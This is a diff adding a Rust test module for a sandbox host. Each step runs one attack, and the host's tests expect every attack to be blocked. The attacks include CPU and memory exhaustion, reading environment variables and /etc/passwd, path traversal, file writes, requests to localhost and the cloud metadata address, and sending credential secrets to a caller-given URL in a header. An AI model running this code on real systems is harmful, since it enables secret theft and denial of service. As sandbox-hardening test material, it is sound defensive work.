@@ -1,0 +1,164 @@
+//! A module that attacks its sandbox, one attack per step (`{"attack": "..."}`), and
+//! reports what it got. The host's tests expect each attack to be stopped. `ok` is a
+//! well-behaved step, used to check the host still serves after an attack.
+
+use flow8_sdk::http::Request;
+use flow8_sdk::{Credential, Error, Manifest, Module, credentials, log};
+use serde_json::{Map, Value, json};
+
+struct Hostile;
+
+fn report(e: &Error) -> Value {
+    json!({"error": {"kind": e.name(), "message": e.message()}})
+}
+
+#[inline(never)]
+fn recurse(depth: u64, acc: &mut [u64; 16]) -> u64 {
+    if depth == u64::MAX {
+        return 0;
+    }
+    acc[(depth % 16) as usize] = acc[(depth % 16) as usize].wrapping_add(depth);
+    let r = recurse(std::hint::black_box(depth + 1), acc);
+    r.wrapping_add(acc[(depth % 7) as usize])
+}
+
+fn str_param<'a>(input: &'a Value, k: &str) -> Result<&'a str, Error> {
+    input[k]
+        .as_str()
+        .ok_or_else(|| Error::invalid_input(format!("`{k}` is required")))
+}
+
+impl Module for Hostile {
+    type Input = Value;
+    type Output = Value;
+
+    fn manifest() -> Manifest {
+        Manifest::new("hostile", "0.1.0")
+            .description("Test module that attacks its sandbox.")
+            .input_schema(json!({"type": "object", "required": ["attack"], "properties": {"attack": {"type": "string"}}}))
+            .credential(Credential::component("api", "http").optional())
+            .allowed_host("http://127.0.0.1:*")
+            .allowed_host("http://localhost:*")
+            .allowed_host("http://[::1]:*")
+            .allowed_host("http://169.254.169.254")
+    }
+
+    fn execute(input: Value) -> Result<Value, Error> {
+        match str_param(&input, "attack")? {
+            "ok" => Ok(json!({"ok": true, "echo": input})),
+            "loop" => {
+                let mut x: u64 = 0;
+                loop {
+                    x = std::hint::black_box(x.wrapping_add(1));
+                }
+            }
+            "memory_bomb" => {
+                let mut chunks: Vec<Vec<u8>> = Vec::new();
+                loop {
+                    let mut c = vec![0u8; 1024 * 1024];
+                    c[4095] = 1;
+                    chunks.push(std::hint::black_box(c));
+                    if chunks.len() > 100_000 {
+                        return Ok(json!({"chunks": chunks.len()}));
+                    }
+                }
+            }
+            "recursion" => {
+                let mut acc = [0u64; 16];
+                Ok(json!({"result": recurse(0, &mut acc)}))
+            }
+            "big_output" => {
+                let size = input["size"].as_u64().unwrap_or(8 * 1024 * 1024) as usize;
+                Ok(Value::String("x".repeat(size)))
+            }
+            "read_env" => {
+                let env: Map<String, Value> = std::env::vars()
+                    .map(|(k, v)| (k, Value::String(v)))
+                    .collect();
+                let args: Vec<String> = std::env::args().collect();
+                let mut paths: Vec<String> = [
+                    "/etc/passwd",
+                    "/etc/hostname",
+                    "../../etc/passwd",
+                    "/proc/self/environ",
+                ]
+                .iter()
+                .map(|s| s.to_string())
+                .collect();
+                if let Some(extra) = input["paths"].as_array() {
+                    paths.extend(extra.iter().filter_map(|p| p.as_str().map(str::to_string)));
+                }
+                let mut files = Map::new();
+                for p in paths {
+                    let found = match std::fs::read(&p) {
+                        Ok(bytes) => {
+                            json!({"bytes": bytes.len(), "head": String::from_utf8_lossy(&bytes[..bytes.len().min(64)])})
+                        }
+                        Err(e) => json!({"error": e.to_string()}),
+                    };
+                    files.insert(p, found);
+                }
+                Ok(json!({"env": env, "args": args, "files": files}))
+            }
+            "write_file" => {
+                let path = str_param(&input, "path")?;
+                if let Some(parent) = std::path::Path::new(path).parent() {
+                    let _ = std::fs::create_dir_all(parent);
+                }
+                match std::fs::write(path, str_param(&input, "contents")?) {
+                    Ok(()) => Ok(json!({"written": path})),
+                    Err(e) => Ok(json!({"error": e.to_string()})),
+                }
+            }
+            "read_file" => match std::fs::read_to_string(str_param(&input, "path")?) {
+                Ok(s) => Ok(json!({"contents": s})),
+                Err(e) => Ok(json!({"error": e.to_string()})),
+            },
+            "http" => {
+                let mut req = Request::get(str_param(&input, "url")?);
+                if let Some(c) = input["credential"].as_str() {
+                    req = req.credential(c);
+                }
+                match req.send() {
+                    Ok(r) => Ok(json!({"status": r.status, "body": r.text()})),
+                    Err(e) => Ok(report(&e)),
+                }
+            }
+            "get_credential" => {
+                let binding = str_param(&input, "binding")?;
+                let secrets = match credentials::get(binding) {
+                    Ok(s) => s,
+                    Err(e) => return Ok(report(&e)),
+                };
+                let names: Vec<&str> = secrets.names().collect();
+                let mut out = json!({"fields": names});
+                if let Some(url) = input["send_to"].as_str() {
+                    let leak = secrets
+                        .names()
+                        .filter_map(|n| secrets.field(n))
+                        .collect::<Vec<_>>()
+                        .join(",");
+                    let sent = Request::get(url).header("x-leak", &leak).send();
+                    out["sent"] = match sent {
+                        Ok(r) => json!({"status": r.status}),
+                        Err(e) => report(&e),
+                    };
+                }
+                Ok(out)
+            }
+            "log" => {
+                let n = input["lines"].as_u64().unwrap_or(1);
+                for i in 0..n {
+                    log::info(&format!("log line {i}"));
+                }
+                println!("to stdout");
+                eprintln!("to stderr");
+                Ok(json!({"logged": n}))
+            }
+            "panic" => panic!("the hostile module panicked on purpose"),
+            other => Err(Error::invalid_input(format!("unknown attack `{other}`"))),
+        }
+    }
+}
+
+flow8_sdk::export_module!(Hostile);
